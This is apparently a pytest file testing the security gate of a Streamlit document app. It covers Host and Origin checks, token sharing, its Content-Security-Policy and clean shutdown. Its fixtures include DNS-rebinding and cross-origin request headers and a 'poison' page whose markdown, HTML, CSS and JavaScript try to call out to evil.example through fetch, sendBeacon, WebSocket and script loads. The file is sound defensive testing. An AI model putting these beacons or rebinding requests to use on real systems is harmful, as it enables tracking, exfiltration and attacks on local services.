"""The app as it is served: whom it answers, what its pages may load, how it starts, and how it stops."""

from __future__ import annotations

import ast
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest
from waiting import wait_until

REPOSITORY = Path(__file__).parents[2]
TOKEN = "a-token-of-enough-letters"
SHARED = "share.docmind.test"
# One request for every route of the server; a test below compares the list with the server's own.
ROUTES = {
    "/": "GET",
    "/documents": "GET",
    "/static/js/nothing.js": "GET",
    "/favicon.png": "GET",
    "/_stcore/health": "GET",
    "/_stcore/metrics": "GET",
    "/_stcore/host-config": "GET",
    "/media/0123456789.pdf": "GET",
    "/component/streamlit.something/index.html": "GET",
    "/_stcore/bidi-components/something/index.js": "GET",
    "/_stcore/upload_file/session/file": "PUT",
    "/_stcore/agent/interact": "POST",
    "/_stcore/agent/openapi.json": "GET",
    "/_stcore/agent/mcp": "POST",
    "/auth/login": "GET",
    "/auth/logout": "GET",
    "/oauth2callback": "GET",
    "/_stcore/stream": "websocket",
}
HOSTILE = {
    "rebound name": ("evil.example:{port}", {}),
    "rebound name without a port": ("evil.example", {}),
    "our name in front": ("localhost.evil.example:{port}", {}),
    "another port": ("localhost:1", {}),
    "another address": ("0.0.0.0:{port}", {}),
    "no host": ("", {}),
    "foreign origin": ("localhost:{port}", {"Origin": "http://evil.example"}),
    "foreign origin on our port": ("localhost:{port}", {"Origin": "http://evil.example:{port}"}),
    "origin on another port": ("localhost:{port}", {"Origin": "http://localhost:1"}),
    "origin with another name of ours": ("localhost:{port}", {"Origin": "http://127.0.0.1:{port}"}),
    "origin of a sandbox": ("localhost:{port}", {"Origin": "null"}),
    "foreign origin and name": ("evil.example:{port}", {"Origin": "http://evil.example:{port}"}),
    "from another site": ("localhost:{port}", {"Sec-Fetch-Site": "cross-site"}),
    "from another port of this machine": ("localhost:{port}", {"Sec-Fetch-Site": "same-site"}),
}


def ask(served, path, method, host=None, headers=()):
    """One request; {port} stands for the server's."""
    host = host and host.format(port=served.port)
    headers = [(name, value.format(port=served.port)) for name, value in dict(headers).items()]
    if method == "websocket":
        return served.websocket(host=host, headers=headers)
    return served.request(path, method, host=host, headers=headers)


def is_refused(answer):
    """By the gate, in its words: the server behind has refusals of its own."""
    return answer.status == 403 and "DocMind" in answer.text


@pytest.fixture(scope="module")
def running(serve, tmp_path_factory):
    """The app, for tests that only knock."""
    with serve(home=tmp_path_factory.mktemp("running") / "home") as served:
        yield served


# The gate ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("host", "headers"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_request_is_refused_on_every_route(running, host, headers):
    """The websocket before it is accepted."""
    answers = {path: ask(running, path, method, host, headers) for path, method in ROUTES.items()}
    # Without any Host the HTTP parser in front of the gate refuses by itself.
    assert [
        path for path, answer in answers.items() if not (is_refused(answer) or (not host and answer.status == 400))
    ] == []


def test_the_routes_that_are_tried_are_all_that_the_server_has(running, in_child):
    """Asked of the installed server itself."""
    code = (
        "import json, streamlit as st\n"
        "from streamlit.web.server.starlette.starlette_app import create_streamlit_routes\n"
        f"app = st.App({str(REPOSITORY / 'app.py')!r})\n"
        "print(json.dumps([route.path for route in create_streamlit_routes(app._create_runtime())]))"
    )
    run = subprocess.run(
        [in_child.python, "-c", code], env=in_child.environment, capture_output=True, text=True, timeout=120, check=True
    )
    patterns = set(json.loads(run.stdout.splitlines()[-1]))
    assert "/_stcore/health" in patterns
    for pattern in patterns - {""}:  # "" is the mount of the start page and its files
        expression = re.sub(r"\\{\w+:path\\}", ".+", re.sub(r"\\{\w+\\}", "[^/]+", re.escape(pattern)))
        assert any(re.fullmatch(expression, path) for path in ROUTES), pattern


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "[::1]"])
def test_its_own_pages_are_answered_and_every_answer_carries_the_policy(running, name):
    """Whatever the status is: found, missing, not allowed."""
    host = f"{name}:{running.port}"
    own = {"Origin": f"http://{host}", "Sec-Fetch-Site": "same-origin"}
    for path, method in ROUTES.items():
        answer = ask(running, path, method, host, own)
        assert answer.status == 101 if method == "websocket" else not is_refused(answer), path
        assert answer.status != 500, path
        refused = ask(running, path, method, "evil.example", own)
        for one in (answer, refused):
            if one.status != 101:
                policy = one.headers.get_all("Content-Security-Policy")
                assert len(policy) == 1, path
                assert "default-src 'self'" in policy[0]
                assert "http" not in policy[0]
                assert one.headers.get_all("X-Frame-Options") == ["DENY"]
                assert one.headers.get_all("X-Content-Type-Options") == ["nosniff"]


def outer_address():
    """An IPv4 address of this machine by which others reach it; None without one."""
    for addresses in psutil.net_if_addrs().values():
        for address in addresses:
            if address.family == socket.AF_INET and not address.address.startswith("127."):
                return address.address
    return None


def status_at(address, port, host, in_child):
    """Asked in another process: this one may not reach any other address than loopback."""
    code = (
        "import http.client, sys\n"
        "connection = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=60)\n"
        "connection.request('GET', '/', headers={'Host': sys.argv[3]})\n"
        "print(connection.getresponse().status)"
    )
    run = subprocess.run(
        [in_child.python, "-c", code, address, str(port), host], capture_output=True, text=True, timeout=120
    )
    return int(run.stdout) if run.stdout else run.stderr.splitlines()[-1]


@pytest.mark.parametrize("address", ["0.0.0.0", "::", ""])
def test_another_address_is_refused_with_a_way_on(app_server, address):
    """The process ends, having served nothing."""
    served = app_server("--server.address", address)
    assert served.process.wait(120) == 1
    assert "docmind: DocMind does not listen on" in served.output()
    assert "docs/security.md" in served.output()
    assert "Traceback" not in served.output()
    assert (REPOSITORY / "docs" / "security.md").is_file()


def test_a_server_that_listens_everywhere_all_the_same_answers_this_machine_only(app_server, in_child, tmp_path):
    """Another ASGI server can be told anything; the address that a connection came in by is looked at too."""
    address = outer_address()
    if address is None:
        pytest.skip("this machine has no address but its own")
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    folder = ["--app-dir", str(REPOSITORY), "--host", "0.0.0.0", "--port", str(port)]
    served = app_server(command=[sys.executable, "-m", "uvicorn", "app:app", *folder], port=None, is_awaited=False)
    served.url = f"http://127.0.0.1:{port}"
    wait_until(
        lambda: served.process.poll() is not None or status_at("127.0.0.1", port, f"localhost:{port}", in_child) == 200,
        served.output,
    )
    assert served.process.poll() is None, served.output()
    assert status_at(address, port, f"{address}:{port}", in_child) == 403
    assert status_at(address, port, f"localhost:{port}", in_child) == 403


def test_half_a_decision_to_share_ends_the_start(app_server):
    """Rather than serving without the other half."""
    served = app_server(environment={"DOCMIND_SHARE": SHARED})
    assert served.process.wait(120) == 1
    assert "DOCMIND_TOKEN is missing" in served.output()


# Sharing ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def shared(app_server, checkout):
    """Served on every address, for those with the token."""
    environment = {"DOCMIND_SHARE": SHARED, "DOCMIND_TOKEN": TOKEN}
    return app_server("--server.address", "0.0.0.0", folder=checkout(), environment=environment)


def test_the_token_lets_in_over_the_network_and_nothing_else_does(shared, in_child):
    """This machine needs none; every route of the shared name does."""
    host = f"{SHARED}:{shared.port}"
    for path, method in ROUTES.items():
        assert is_refused(ask(shared, path, method, host)), path
        assert not is_refused(ask(shared, path, method, "localhost:{port}")), path
    assert shared.request("/?token=wrong", host=host).status == 403
    admitted = shared.request(f"/?token={TOKEN}", host=host)
    assert (admitted.status, admitted.headers["Refresh"]) == (200, "0;url=/")
    assert {"HttpOnly", "SameSite=Strict"} <= set(admitted.headers["Set-Cookie"].split("; "))
    inside = {"Cookie": admitted.headers["Set-Cookie"].split(";")[0]}
    for path, method in ROUTES.items():
        assert not is_refused(ask(shared, path, method, host, inside)), path
        assert is_refused(ask(shared, path, method, host, inside | {"Origin": "http://evil.example"})), path
    assert shared.websocket(host=host, headers=[*inside.items(), ("Origin", f"http://{host}")]).status == 101
    assert TOKEN not in shared.output()
    assert f"http://{host}/?token=" in shared.output()  # what to tell the others
    address = outer_address()
    if address:
        assert status_at(address, shared.port, host, in_child) == 403  # no cookie
        assert status_at(address, shared.port, f"localhost:{shared.port}", in_child) == 403


def test_a_person_follows_the_link_they_were_sent(shared, page):
    """From a mail on another site too: the token leaves the address, and the app is there, websocket and all."""
    link = f"http://{SHARED}:{shared.port}/?token={TOKEN}"
    page.goto(f"http://{SHARED}:{shared.port}/documents")
    assert "by invitation" in page.inner_text("body")
    page.route(
        "http://mail.example/**",
        lambda route: route.fulfill(body=f'<a href="{link}">Open</a>', content_type="text/html"),
    )
    page.goto("http://mail.example/")
    page.get_by_text("Open").click()
    page.get_by_text("the page chat").wait_for()
    assert page.url == f"http://{SHARED}:{shared.port}/"
    assert page.evaluate("document.cookie").count("docmind") == 0
    page.goto("http://mail.example/")
    page.evaluate(f"location = 'http://{SHARED}:{shared.port}/documents'")
    page.get_by_text("by invitation").wait_for()  # the browser keeps the cookie from what another site asks for


def test_a_link_on_another_site_does_not_open_the_app(running, page):
    """It could carry a question; and the person reads how to open it."""
    body = f'<a href="{running.url}/?q=anything">Open</a>'
    page.route("http://mail.example/**", lambda route: route.fulfill(body=body, content_type="text/html"))
    page.goto("http://mail.example/")
    page.get_by_text("Open").click()
    page.get_by_text("click into the browser's address bar and press Enter").wait_for()
    page.goto(running.url)
    page.get_by_test_id("stApp").wait_for()


# Pages ------------------------------------------------------------------------------------------------------------


def test_the_first_visit_of_all_to_a_page_shows_it_in_its_frame(app_server, checkout, page):
    """A server that nobody has visited yet would otherwise run pages/documents.py without app.py."""
    served = app_server(folder=checkout())
    page.goto(f"{served.url}/documents")
    page.get_by_text("the page documents").wait_for()
    links = page.get_by_test_id("stSidebarNavLink")
    assert [link.inner_text().split()[-1] for link in links.all()] == ["Ask", "Documents", "Models", "Performance"]
    assert page.title() == "DocMind"
    assert page.locator("link[rel~=icon]").get_attribute("href").startswith("data:image/svg+xml")


POISON = '''
import streamlit as st

IMAGE = "http://evil.example/{}.png"
st.markdown("![x](" + IMAGE.format("markdown") + ")")
st.markdown("<img src='" + IMAGE.format("html") + "'><style>@import url('http://evil.example/a.css');"
            " body { background: url(" + IMAGE.format("css") + ") }</style>", unsafe_allow_html=True)
st.html("<img src='" + IMAGE.format("sthtml") + "'><iframe src='http://evil.example/frame'></iframe>")
st.caption("![x](" + IMAGE.format("caption") + ")")
st.image(IMAGE.format("image"))
st.video("http://evil.example/video.mp4")
st.dataframe({"a": [IMAGE.format("cell")]}, column_config={"a": st.column_config.ImageColumn()})
st.components.v2.component("beacon", html="<p>beacon</p>", js="""
export default function ({ parentElement }) {
    const calls = [
        () => fetch("http://evil.example/fetch").catch(() => {}),
        () => navigator.sendBeacon("http://evil.example/beacon"),
        () => new WebSocket("ws://evil.example/socket"),
        () => { new Image().src = "http://evil.example/script.png" },
        () => {
            const script = document.createElement("script")
            script.src = "http://evil.example/script.js"
            document.head.append(script)
        },
    ]
    for (const call of calls) { try { call() } catch {} }
    parentElement.querySelector("p").textContent = "beacon sent"
}
""")()
st.write("the end of the poison")
'''


def open_poisoned(served, make_page):
    """The sink, when all of the page stands and its script has run."""
    page, sink = make_page()
    page.goto(served.url)
    page.get_by_text("the end of the poison").wait_for()
    page.get_by_text("beacon sent").wait_for()
    page.wait_for_load_state("networkidle")
    return page, sink


def test_a_poisoned_page_reaches_nobody(app_server, checkout, sink, tmp_path):
    """Not by markdown, HTML, styles, pictures, frames or scripts; without the gate the same page calls home."""
    (tmp_path / "bare").mkdir()
    (tmp_path / "bare" / "app.py").write_text(POISON, encoding="utf-8")
    bare = app_server("--server.address", "127.0.0.1", folder=tmp_path / "bare", home=tmp_path / "other")
    page, seen = open_poisoned(bare, sink)
    wait_until(lambda: sum("evil.example" in line for line in list(seen.hosts)) >= 5, lambda: seen.hosts)
    page, seen = open_poisoned(app_server(folder=checkout(chat=POISON)), sink)
    page.wait_for_timeout(2000)  # what was asked for is on its way
    assert seen.hosts == set()


# Starting and stopping --------------------------------------------------------------------------------------------


def test_a_taken_port_is_stepped_over(app_server, tmp_path):
    """Two of them side by side, each on a port of its own, started as the README says."""
    first = app_server(port=None, home=tmp_path / "one")
    second = app_server(port=None, home=tmp_path / "two")
    assert first.port != second.port
    for served in (first, second):
        assert served.process.poll() is None
        assert served.request("/_stcore/health").status == 200


def test_a_stopped_server_lets_its_runs_store_what_they_have(app_server, checkout, page, tmp_path):
    """A kill from outside, while a page is open and a run goes on."""
    run = """
import pathlib
import streamlit as st
from docmind import runs

def work():
    run.stop_requested.wait()
    pathlib.Path({path!r}).write_text("kept")
    return "stopped"

if not runs.live():
    run = runs.Run("ingestion")
    runs.started(run, work)
st.write("a run goes on")
"""
    kept = tmp_path / "kept"
    served = app_server(folder=checkout(chat=run.format(path=str(kept))))
    page.goto(served.url)
    page.get_by_text("a run goes on").wait_for()
    assert not kept.exists()
    served.process.terminate()
    served.process.wait(120)
    assert kept.read_text() == "kept"


def start_docmind(app_server, *arguments, folder=None, **options):
    """`docmind` with these arguments, from a copy of the program with pages of the test's own."""
    command = [sys.executable, "-m", "docmind", *arguments]
    environment = {"PYTHONPATH": str(folder)} | options.pop("environment", {})
    return app_server(command=command, port=None, environment=environment, **options)


@pytest.fixture
def program(checkout):
    """A copy of the program, all of it, with pages of the test's own."""
    folder = checkout()
    ignored = shutil.ignore_patterns("__pycache__", "*.gguf")
    for part in ("docmind", "pages/parts", "models"):
        shutil.copytree(REPOSITORY / part, folder / part, ignore=ignored)
    return folder


@pytest.mark.parametrize("arguments", [(), ("run",)], ids=["docmind", "docmind run"])
def test_docmind_starts_the_app_in_the_browser(app_server, program, tmp_path, arguments):
    """One address, where the app answers; its data is where --home says."""
    if sys.platform == "win32":
        pytest.skip("which browser is opened is said by $BROWSER elsewhere only")
    opened = tmp_path / "opened"
    opener = tmp_path / "opener"
    opener.write_text(f'#!/bin/sh\necho "$1" >> "{opened}"\n', encoding="utf-8")
    opener.chmod(0o755)
    (program / "pages" / "chat.py").write_text(
        "import os, streamlit as st\nst.write(os.environ['DOCMIND_HOME'])\n", encoding="utf-8"
    )
    environment = {"DISPLAY": ":99", "BROWSER": f"{opener} %s"}
    home = tmp_path / "elsewhere"
    served = start_docmind(app_server, "--home", str(home), *arguments, folder=program, environment=environment)
    wait_until(lambda: opened.exists() and opened.read_text().strip(), served.output)
    assert opened.read_text().splitlines() == [served.url]
    child = next(iter(psutil.Process(served.process.pid).children()))
    assert child.environ()["DOCMIND_HOME"] == str(home)


def test_docmind_run_steps_over_a_taken_port_and_says_so(app_server, program, tmp_path):
    """Also one that was asked for. No browser is opened when none is wanted."""
    opened = tmp_path / "opened"
    environment = {"DISPLAY": ":99", "BROWSER": f"touch {opened} %s"}
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        served = start_docmind(
            app_server, "run", "--no-browser", "--port", str(port), folder=program, environment=environment
        )
        assert served.port != port
        assert f"Port {port} is taken" in served.output()
        assert served.request("/_stcore/health").status == 200
        time.sleep(2)  # ten times what it would take
    assert not opened.exists()


@pytest.mark.skipif(sys.platform == "win32", reason="signals")
@pytest.mark.parametrize("to", ["the terminal's programs", "docmind alone"])
def test_control_c_ends_docmind_run_cleanly(app_server, program, page, to):
    """With an open page, without a traceback, and nothing is left behind."""
    served = start_docmind(app_server, "run", "--no-browser", folder=program)
    page.goto(served.url)
    page.get_by_text("the page chat").wait_for()
    children = psutil.Process(served.process.pid).children(recursive=True)
    assert children
    if to == "docmind alone":
        served.process.send_signal(signal.SIGINT)
    else:
        os.killpg(served.process.pid, signal.SIGINT)
    assert served.process.wait(120) == 130
    assert psutil.wait_procs(children, timeout=60)[1] == []
    assert "Traceback" not in served.output()
    assert "Error" not in served.output()


def test_docmind_run_without_the_app_beside_it_says_what_to_do(program, in_child):
    """As after an installation that took the package alone."""
    (program / "app.py").unlink()
    run = subprocess.run(
        [in_child.python, "-m", "docmind", "run"],
        env=in_child.environment | {"PYTHONPATH": str(program)},
        cwd=program.parent,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 1
    assert "There is no app.py" in run.stderr
    assert "streamlit run app.py" in run.stderr
    assert "Traceback" not in run.stderr


def test_nothing_heavy_is_imported_before_the_first_paint():
    """Torch and LlamaIndex take seconds: app.py and what it imports at the top leave them alone."""
    code = f"import sys; sys.path.insert(0, {str(REPOSITORY)!r}); import app; print(*sys.modules)"
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True)
    loaded = set(run.stdout.split())
    assert "docmind.gate" in loaded
    assert not loaded & {"torch", "llama_index", "llama_index.core", "transformers", "pypdfium2", "docmind.library"}
    assert ast.parse((REPOSITORY / "app.py").read_text(encoding="utf-8"))
